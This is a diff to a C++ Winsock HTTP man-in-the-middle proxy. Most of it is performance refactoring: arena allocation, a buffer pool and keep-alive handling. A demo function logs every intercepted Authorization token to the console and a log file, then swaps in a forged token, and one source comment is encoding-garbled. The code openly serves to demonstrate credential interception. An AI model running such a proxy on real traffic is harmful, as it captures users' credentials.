@@ -12,6 +12,11 @@
 #include <sstream>
 #include <algorithm>
 #include <cstring>
+#include <string_view>
+#include <memory_resource>
+#include <mutex>
+#include <atomic>
+#include <initializer_list>
 
 // s Winsock library (w Visual Studio ҡAMinGW ݦbO[ -lws2_32)
 #pragma comment(lib, "ws2_32.lib")
@@ -21,64 +26,272 @@ using namespace std;
 static const int BUFFER_SIZE = 8192;
 static const string LOG_FILE = "mitm_log.txt";
 
-void log_line(const string &s) {
-    cout << s << endl;
-    ofstream f(LOG_FILE, ios::app);
-    if (f.is_open()) {
-        f << s << "\n";
-        f.close();
+// Per-connection arena size. Request/response heads, header maps and the
+// writev gather list for one request all fit here in the normal case.
+static const size_t ARENA_SIZE = 32 * 1024;
+// Idle I/O buffers kept by the global pool; extra ones are freed.
+static const size_t POOL_MAX_IDLE = 64;
+// Idle keep-alive connections are dropped after this long.
+static const DWORD KEEP_ALIVE_TIMEOUT_MS = 5000;
+// An upstream that stops sending for this long is given up on.
+static const DWORD UPSTREAM_TIMEOUT_MS = 10000;
+
+// Heap allocations made on the request path. That path keeps its state in
+// the connection arena and pooled buffers and logs without temporaries, so
+// it only reaches the heap on arena overflow or a pool miss; both are counted
+// here. (Counted explicitly rather than by replacing operator new: with
+// MinGW's shared libstdc++ a replacement in the exe would not see the
+// allocations made inside the DLL.) Each connection runs on its own thread,
+// so the thread_local counter gives per-request numbers; the atomic one is
+// the process-wide total.
+static thread_local size_t t_heap_allocs = 0;
+static atomic<size_t> g_heap_allocs{0};
+
+static void count_heap_alloc() {
+    t_heap_allocs++;
+    g_heap_allocs.fetch_add(1, memory_order_relaxed);
+}
+
+static mutex g_log_mutex;
+static FILE *g_log_file = NULL;
+
+// Writes the parts as one line to stdout and the log file without building a
+// temporary string; the log file is opened once and kept open.
+void log_parts(initializer_list<string_view> parts) {
+    lock_guard<mutex> lock(g_log_mutex);
+    if (!g_log_file) g_log_file = fopen(LOG_FILE.c_str(), "a");
+    for (string_view p : parts) {
+        cout << p;
+        if (g_log_file) fwrite(p.data(), 1, p.size(), g_log_file);
     }
+    cout << endl;
+    if (g_log_file) {
+        fputc('\n', g_log_file);
+        fflush(g_log_file);
+    }
+}
+
+void log_line(string_view s) {
+    log_parts({s});
 }
 
 void close_socket(SOCKET s) {
     closesocket(s);
 }
 
-string recv_until_double_crlf(SOCKET sock) {
-    string acc;
-    char buf[BUFFER_SIZE];
+// Upstream of every connection arena: only reached when an arena runs out.
+class CountingResource : public pmr::memory_resource {
+    void *do_allocate(size_t bytes, size_t align) override {
+        count_heap_alloc();
+        return pmr::new_delete_resource()->allocate(bytes, align);
+    }
+    void do_deallocate(void *p, size_t bytes, size_t align) override {
+        pmr::new_delete_resource()->deallocate(p, bytes, align);
+    }
+    bool do_is_equal(const pmr::memory_resource &other) const noexcept override {
+        return this == &other;
+    }
+};
+
+static CountingResource g_counting_resource;
+
+// Monotonic arena owned by one client connection, reset between keep-alive
+// requests. Everything allocated from it must be destroyed before reset().
+class ConnArena {
+public:
+    ConnArena() : res_(storage_, sizeof(storage_), &g_counting_resource) {}
+    ConnArena(const ConnArena &) = delete;
+    ConnArena &operator=(const ConnArena &) = delete;
+
+    pmr::memory_resource *resource() { return &res_; }
+    void reset() { res_.release(); }
+
+private:
+    alignas(max_align_t) char storage_[ARENA_SIZE];
+    pmr::monotonic_buffer_resource res_;
+};
+
+// Global pool of BUFFER_SIZE I/O buffers recycled across connections.
+class BufferPool {
+public:
+    BufferPool() { free_.reserve(POOL_MAX_IDLE); }
+
+    char *acquire() {
+        {
+            lock_guard<mutex> lock(m_);
+            if (!free_.empty()) {
+                char *p = free_.back();
+                free_.pop_back();
+                return p;
+            }
+        }
+        count_heap_alloc();
+        return new char[BUFFER_SIZE];
+    }
+
+    void release(char *p) {
+        {
+            lock_guard<mutex> lock(m_);
+            if (free_.size() < POOL_MAX_IDLE) {
+                free_.push_back(p);
+                return;
+            }
+        }
+        delete[] p;
+    }
+
+private:
+    mutex m_;
+    vector<char *> free_;
+};
+
+static BufferPool g_buffer_pool;
+
+struct PooledBuffer {
+    char *data;
+    PooledBuffer() : data(g_buffer_pool.acquire()) {}
+    ~PooledBuffer() { g_buffer_pool.release(data); }
+    PooledBuffer(const PooledBuffer &) = delete;
+    PooledBuffer &operator=(const PooledBuffer &) = delete;
+};
+
+// Lower-cased header name -> value. Values are views into the received head
+// (or string literals), so they stay valid until the arena is reset.
+using HeaderMap = pmr::map<pmr::string, string_view, less<>>;
+using GatherList = pmr::vector<WSABUF>;
+
+static bool iequals(string_view a, string_view b) {
+    if (a.size() != b.size()) return false;
+    for (size_t i = 0; i < a.size(); i++) {
+        if (tolower((unsigned char)a[i]) != tolower((unsigned char)b[i])) return false;
+    }
+    return true;
+}
+
+static string_view header_value(const HeaderMap &headers, string_view name) {
+    auto it = headers.find(name);
+    return it == headers.end() ? string_view() : it->second;
+}
+
+static void add_iov(GatherList &iov, string_view s) {
+    if (s.empty()) return;
+    WSABUF b;
+    b.buf = const_cast<char *>(s.data());
+    b.len = (ULONG)s.size();
+    iov.push_back(b);
+}
+
+bool send_all(SOCKET sock, const char *data, size_t len) {
+    while (len > 0) {
+        int n = send(sock, data, (int)len, 0);
+        if (n <= 0) return false;
+        data += n;
+        len -= n;
+    }
+    return true;
+}
+
+// Scatter/gather send of the whole list, resuming after partial writes.
+bool send_gather(SOCKET sock, GatherList &iov) {
+    size_t i = 0;
+    while (i < iov.size()) {
+        DWORD sent = 0;
+        if (WSASend(sock, &iov[i], (DWORD)(iov.size() - i), &sent, 0, NULL, NULL) == SOCKET_ERROR) {
+            return false;
+        }
+        while (i < iov.size() && sent >= iov[i].len) {
+            sent -= iov[i].len;
+            i++;
+        }
+        if (i < iov.size()) {
+            iov[i].buf += sent;
+            iov[i].len -= sent;
+        }
+    }
+    return true;
+}
+
+// Receives into `acc` until it holds a full header block. Returns the length
+// of the head including the terminating "\r\n\r\n", or 0 on close/error.
+size_t recv_until_double_crlf(SOCKET sock, pmr::string &acc, char *buf) {
     while (true) {
-        int r = recv(sock, buf, sizeof(buf), 0);
-        if (r <= 0) break;
-        acc.append(buf, buf + r);
-        if (acc.find("\r\n\r\n") != string::npos) break;
+        int r = recv(sock, buf, BUFFER_SIZE, 0);
+        if (r <= 0) return 0;
+        size_t from = acc.size() < 3 ? 0 : acc.size() - 3;
+        acc.append(buf, r);
+        size_t pos = acc.find("\r\n\r\n", from);
+        if (pos != pmr::string::npos) return pos + 4;
     }
-    return acc;
 }
 
-void parse_headers(const string &head_block, string &start_line, map<string,string> &headers_out) {
+void parse_headers(string_view head_block, string_view &start_line, HeaderMap &headers_out) {
     headers_out.clear();
-    stringstream ss(head_block);
-    string line;
+    auto trim = [](string_view s) {
+        size_t a = s.find_first_not_of(" \t");
+        size_t b = s.find_last_not_of(" \t");
+        if (a == string_view::npos) return string_view();
+        return s.substr(a, b - a + 1);
+    };
     bool first = true;
-    while (getline(ss, line)) {
-        if (!line.empty() && line.back() == '\r') line.pop_back();
+    while (!head_block.empty()) {
+        size_t eol = head_block.find('\n');
+        string_view line = head_block.substr(0, eol);
+        head_block.remove_prefix(eol == string_view::npos ? head_block.size() : eol + 1);
+        if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
         if (first) {
             start_line = line;
             first = false;
         } else {
             auto pos = line.find(':');
-            if (pos != string::npos) {
-                string k = line.substr(0, pos);
-                string v = line.substr(pos + 1);
-                auto trim = [](string &s) {
-                    size_t a = s.find_first_not_of(" \t");
-                    size_t b = s.find_last_not_of(" \t");
-                    if (a == string::npos) { s = ""; return; }
-                    s = s.substr(a, b - a + 1);
-                };
-                trim(k); trim(v);
-                string lk = k;
+            if (pos != string_view::npos) {
+                string_view k = trim(line.substr(0, pos));
+                string_view v = trim(line.substr(pos + 1));
+                pmr::string lk(k, headers_out.get_allocator());
                 transform(lk.begin(), lk.end(), lk.begin(), ::tolower);
-                headers_out[lk] = v;
+                headers_out[std::move(lk)] = v;
             }
         }
     }
 }
 
-string forward_to_upstream(const string &upstream_host, int upstream_port, const vector<char> &request_bytes) {
+static size_t parse_decimal(string_view v) {
+    size_t n = 0;
+    for (char c : v) {
+        if (c < '0' || c > '9') break;
+        n = n * 10 + (c - '0');
+    }
+    return n;
+}
+
+// "HTTP/1.1 204 No Content" -> 204
+static int parse_status_code(string_view status_line) {
+    size_t sp = status_line.find(' ');
+    if (sp == string_view::npos) return 0;
+    return (int)parse_decimal(status_line.substr(sp + 1));
+}
+
+static void set_header(HeaderMap &headers, string_view name, string_view value) {
+    auto it = headers.find(name);
+    if (it != headers.end()) it->second = value;
+    else headers.emplace(pmr::string(name, headers.get_allocator()), value);
+}
+
+static void remove_header(HeaderMap &headers, string_view name) {
+    auto it = headers.find(name);
+    if (it != headers.end()) headers.erase(it);
+}
+
+static bool client_wants_keep_alive(string_view request_line, const HeaderMap &headers) {
+    string_view conn = header_value(headers, "connection");
+    if (request_line.size() >= 8 && request_line.substr(request_line.size() - 8) == "HTTP/1.0") {
+        return iequals(conn, "keep-alive");
+    }
+    return !iequals(conn, "close");
+}
+
+SOCKET connect_upstream(const string &upstream_host, int upstream_port) {
     SOCKET sock = socket(AF_INET, SOCK_STREAM, 0);
-    if (sock == INVALID_SOCKET) return "";
+    if (sock == INVALID_SOCKET) return INVALID_SOCKET;
 
     struct sockaddr_in addr;
     addr.sin_family = AF_INET;
@@ -88,77 +301,171 @@ string forward_to_upstream(const string &upstream_host, int upstream_port, const
     if (connect(sock, (struct sockaddr*)&addr, sizeof(addr)) == SOCKET_ERROR) {
         log_line("[MITM] connect() failed to upstream");
         close_socket(sock);
-        return "";
+        return INVALID_SOCKET;
     }
+    DWORD timeout = UPSTREAM_TIMEOUT_MS;
+    setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, (const char *)&timeout, sizeof(timeout));
+    return sock;
+}
 
-    size_t sent = 0;
-    while (sent < request_bytes.size()) {
-        int n = send(sock, request_bytes.data() + sent, (int)(request_bytes.size() - sent), 0);
-        if (n <= 0) break;
-        sent += n;
+// Sends a response head to the client. Connection and Keep-Alive are
+// hop-by-hop, so the upstream's values are replaced by the proxy's own
+// decision for the client connection.
+static bool send_response_head(SOCKET client, string_view status_line, const HeaderMap &headers, bool keep_alive, ConnArena &arena) {
+    GatherList iov(arena.resource());
+    iov.reserve(headers.size() * 4 + 4);
+    add_iov(iov, status_line);
+    add_iov(iov, "\r\n");
+    for (auto &p : headers) {
+        if (p.first == "connection" || p.first == "keep-alive") continue;
+        add_iov(iov, p.first);
+        add_iov(iov, ": ");
+        add_iov(iov, p.second);
+        add_iov(iov, "\r\n");
     }
+    add_iov(iov, keep_alive ? "connection: keep-alive\r\n" : "connection: close\r\n");
+    add_iov(iov, "\r\n");
+    return send_gather(client, iov);
+}
 
-    vector<char> resp;
-    char buf[BUFFER_SIZE];
+// Streams the upstream response to the client through the pooled buffer.
+// The body is framed by Content-Length, or is empty for HEAD, 204 and 304;
+// anything else (chunked, unframed, 101) is relayed until the upstream closes
+// and ends the client connection. Returns true if the client connection may
+// be reused for another request.
+bool relay_response(SOCKET upstream, SOCKET client, ConnArena &arena, char *buf, bool head_request, bool keep_alive) {
+    pmr::string head(arena.resource());
+    head.reserve(BUFFER_SIZE);
+    string_view status_line;
+    HeaderMap resp_headers(arena.resource());
+    size_t head_len;
+    int status;
     while (true) {
-        int r = recv(sock, buf, sizeof(buf), 0);
-        if (r <= 0) break;
-        resp.insert(resp.end(), buf, buf + r);
-        if (r < (int)sizeof(buf)) {
-            this_thread::sleep_for(chrono::milliseconds(10));
+        size_t pos = head.find("\r\n\r\n");
+        head_len = pos != pmr::string::npos ? pos + 4 : recv_until_double_crlf(upstream, head, buf);
+        if (head_len == 0) return false;
+        parse_headers(string_view(head).substr(0, head_len - 4), status_line, resp_headers);
+        status = parse_status_code(status_line);
+        // Interim 1xx responses have no body and precede the real response.
+        if (status < 100 || status >= 200 || status == 101) break;
+        if (!send_all(client, head.data(), head_len)) return false;
+        head.erase(0, head_len);
+    }
+
+    bool no_body = head_request || status == 204 || status == 304;
+    string_view cl = header_value(resp_headers, "content-length");
+    bool framed = status != 101 && (no_body || (!cl.empty() && header_value(resp_headers, "transfer-encoding").empty()));
+    size_t remaining = no_body ? 0 : parse_decimal(cl);
+    size_t already = head.size() - head_len;
+    if (already > remaining) framed = false;
+    keep_alive = keep_alive && framed;
+
+    if (!send_response_head(client, status_line, resp_headers, keep_alive, arena)) return false;
+    if (already > 0 && !send_all(client, head.data() + head_len, already)) return false;
+
+    if (framed) {
+        remaining -= already;
+        while (remaining > 0) {
+            int r = recv(upstream, buf, (int)min(remaining, (size_t)BUFFER_SIZE), 0);
+            if (r <= 0 || !send_all(client, buf, r)) return false;
+            remaining -= r;
         }
+        return keep_alive;
     }
-    close_socket(sock);
-    return string(resp.begin(), resp.end());
+
+    while (true) {
+        int r = recv(upstream, buf, BUFFER_SIZE, 0);
+        if (r <= 0 || !send_all(client, buf, r)) break;
+    }
+    return false;
 }
 
-void modify_request_headers_for_demo(map<string,string> &headers) {
-    if (headers.count("authorization")) {
-        string orig = headers["authorization"];
-        log_line("[MITM] Intercepted Token: " + orig);
-        headers["authorization"] = "Bearer FORGED_BY_MITM_DEMO"; 
+void modify_request_headers_for_demo(HeaderMap &headers) {
+    auto it = headers.find("authorization");
+    if (it != headers.end()) {
+        log_parts({"[MITM] Intercepted Token: ", it->second});
+        it->second = "Bearer FORGED_BY_MITM_DEMO";
         log_line("[MITM] >>> Attack: Replaced Authorization header with FORGED token.");
     }
 }
 
-void handle_client(SOCKET client_sock, string client_addr, const string upstream_host, int upstream_port) {
-    string header_block = recv_until_double_crlf(client_sock);
-    if (header_block.empty()) { close_socket(client_sock); return; }
-
-    size_t hdr_end = header_block.find("\r\n\r\n");
-    string head = header_block.substr(0, hdr_end);
-    string remainder = header_block.substr(hdr_end + 4);
+// Proxies one request/response exchange. All per-request state lives in the
+// connection arena; returns true if the connection should stay open.
+bool serve_request(SOCKET client_sock, ConnArena &arena, char *buf, const string &upstream_host, int upstream_port) {
+    pmr::string acc(arena.resource());
+    acc.reserve(BUFFER_SIZE);
+    size_t head_len = recv_until_double_crlf(client_sock, acc, buf);
+    if (head_len == 0) return false;
 
-    string request_line;
-    map<string,string> req_headers;
-    parse_headers(head + "\r\n", request_line, req_headers);
+    string_view request_line;
+    HeaderMap req_headers(arena.resource());
+    parse_headers(string_view(acc).substr(0, head_len - 4), request_line, req_headers);
 
-    log_line("[MITM] Request: " + request_line);
+    log_parts({"[MITM] Request: ", request_line});
 
     modify_request_headers_for_demo(req_headers);
 
-    string req_head_text = request_line + "\r\n";
-    for (auto &p : req_headers) req_head_text += p.first + ": " + p.second + "\r\n";
-    req_head_text += "\r\n";
-
-    size_t content_length = 0;
-    if (req_headers.count("content-length")) {
-        content_length = stoul(req_headers["content-length"]);
+    size_t content_length = parse_decimal(header_value(req_headers, "content-length"));
+    string_view remainder = string_view(acc).substr(head_len);
+    // Bytes past the body belong to a pipelined request; not supported, so
+    // the connection is closed after this exchange.
+    bool keep_alive = client_wants_keep_alive(request_line, req_headers) && remainder.size() <= content_length;
+    string_view body = remainder.substr(0, content_length);
+    bool head_request = request_line.substr(0, 5) == "HEAD ";
+
+    // One upstream connection per request, so ask the upstream to close it
+    // once the response is sent.
+    set_header(req_headers, "connection", "close");
+    remove_header(req_headers, "keep-alive");
+
+    GatherList iov(arena.resource());
+    iov.reserve(req_headers.size() * 4 + 4);
+    add_iov(iov, request_line);
+    add_iov(iov, "\r\n");
+    for (auto &p : req_headers) {
+        add_iov(iov, p.first);
+        add_iov(iov, ": ");
+        add_iov(iov, p.second);
+        add_iov(iov, "\r\n");
+    }
+    add_iov(iov, "\r\n");
+    add_iov(iov, body);
+
+    SOCKET upstream = connect_upstream(upstream_host, upstream_port);
+    if (upstream == INVALID_SOCKET) return false;
+
+    bool ok = send_gather(upstream, iov);
+    size_t remaining = content_length - body.size();
+    while (ok && remaining > 0) {
+        int r = recv(client_sock, buf, (int)min(remaining, (size_t)BUFFER_SIZE), 0);
+        if (r <= 0) { ok = false; break; }
+        ok = send_all(upstream, buf, r);
+        remaining -= r;
     }
 
-    vector<char> req_bytes;
-    req_bytes.insert(req_bytes.end(), req_head_text.begin(), req_head_text.end());
-    if (!remainder.empty()) req_bytes.insert(req_bytes.end(), remainder.begin(), remainder.end());
+    if (ok) keep_alive = relay_response(upstream, client_sock, arena, buf, head_request, keep_alive);
+    else keep_alive = false;
+    close_socket(upstream);
+    return keep_alive;
+}
 
-    while (req_bytes.size() < req_head_text.size() + content_length) {
-        char buf[BUFFER_SIZE];
-        int r = recv(client_sock, buf, sizeof(buf), 0);
-        if (r <= 0) break;
-        req_bytes.insert(req_bytes.end(), buf, buf + r);
+void handle_client(SOCKET client_sock, string client_addr, const string upstream_host, int upstream_port) {
+    DWORD timeout = KEEP_ALIVE_TIMEOUT_MS;
+    setsockopt(client_sock, SOL_SOCKET, SO_RCVTIMEO, (const char *)&timeout, sizeof(timeout));
+
+    ConnArena arena;
+    PooledBuffer buf;
+    bool keep_alive = true;
+    while (keep_alive) {
+        size_t allocs_before = t_heap_allocs;
+        keep_alive = serve_request(client_sock, arena, buf.data, upstream_host, upstream_port);
+        arena.reset();
+        size_t allocs = t_heap_allocs - allocs_before;
+        if (allocs > 0) {
+            log_parts({"[MITM] Request needed ", to_string(allocs), " heap allocation(s) beyond arena/pool (process total ",
+                       to_string(g_heap_allocs.load()), ")"});
+        }
     }
-
-    string resp = forward_to_upstream(upstream_host, upstream_port, req_bytes);
-    send(client_sock, resp.data(), (int)resp.size(), 0);
     close_socket(client_sock);
 }
 